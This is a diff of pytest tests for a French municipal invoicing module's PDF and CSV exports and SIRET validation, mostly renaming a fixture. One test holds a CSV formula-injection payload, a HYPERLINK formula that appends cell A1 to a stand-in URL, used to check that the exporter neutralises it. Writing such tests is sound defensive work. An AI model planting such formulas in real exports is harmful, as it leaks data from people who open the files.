@@ -25,12 +25,12 @@ def _pdf_text(pdf: bytes) -> str:
 
 
 def test_the_invoice_pdf_holds_the_commune_the_lines_and_the_totals(
-    bordeaux: Commune, bordeaux_profile: CommuneBillingProfile
+    bordeaux_commune: Commune, bordeaux_profile: CommuneBillingProfile
 ) -> None:
     from tenants.billing.exports import invoice_pdf
 
     invoice = invoice_create(
-        commune=bordeaux,
+        commune=bordeaux_commune,
         lines=[
             line(),
             line(label="Hébergement des classes", quantity="40", price="12.35", nature="6156"),
@@ -61,16 +61,18 @@ def test_the_invoice_pdf_holds_the_commune_the_lines_and_the_totals(
 
 
 def test_the_csv_is_semicolon_separated_with_decimal_commas_and_a_bom(
-    bordeaux: Commune, bordeaux_profile: CommuneBillingProfile
+    bordeaux_commune: Commune, bordeaux_profile: CommuneBillingProfile
 ) -> None:
     from tenants.billing.exports import invoices_csv
 
-    invoice = invoice_create(commune=bordeaux, lines=[line(quantity="2.5")], **SEPTEMBER)
+    invoice = invoice_create(commune=bordeaux_commune, lines=[line(quantity="2.5")], **SEPTEMBER)
     credit_note = invoice_cancel(
         invoice=invoice, issued_on=datetime.date(2026, 10, 3), reason="Erreur"
     )
 
-    data = invoices_csv(invoices=[invoice, credit_note], profiles={bordeaux.pk: bordeaux_profile})
+    data = invoices_csv(
+        invoices=[invoice, credit_note], profiles={bordeaux_commune.pk: bordeaux_profile}
+    )
 
     assert data.startswith(b"\xef\xbb\xbf")
     rows = [row.split(";") for row in data.decode("utf-8-sig").splitlines()]
@@ -113,9 +115,9 @@ def test_an_invalid_siret_is_refused(siret: str) -> None:
         validate_siret(siret)
 
 
-def test_a_billing_profile_with_a_bad_siret_does_not_validate(bordeaux: Commune) -> None:
+def test_a_billing_profile_with_a_bad_siret_does_not_validate(bordeaux_commune: Commune) -> None:
     profile = CommuneBillingProfile(
-        commune=bordeaux, siret="21330063500018", billing_address="Bordeaux"
+        commune=bordeaux_commune, siret="21330063500018", billing_address="Bordeaux"
     )
 
     with pytest.raises(ValidationError) as caught:
@@ -125,12 +127,12 @@ def test_a_billing_profile_with_a_bad_siret_does_not_validate(bordeaux: Commune)
 
 
 def test_the_csv_neutralises_a_formula_in_a_label_and_keeps_negative_amounts(
-    bordeaux: Commune,
+    bordeaux_commune: Commune,
 ) -> None:
     from tenants.billing.exports import invoices_csv
 
     formula = '=HYPERLINK("https://example.com/?x="&A1;"Facture")'
-    invoice = invoice_create(commune=bordeaux, lines=[line(label=formula)], **SEPTEMBER)
+    invoice = invoice_create(commune=bordeaux_commune, lines=[line(label=formula)], **SEPTEMBER)
     credit_note = invoice_cancel(
         invoice=invoice, issued_on=datetime.date(2026, 10, 3), reason="Erreur"
     )
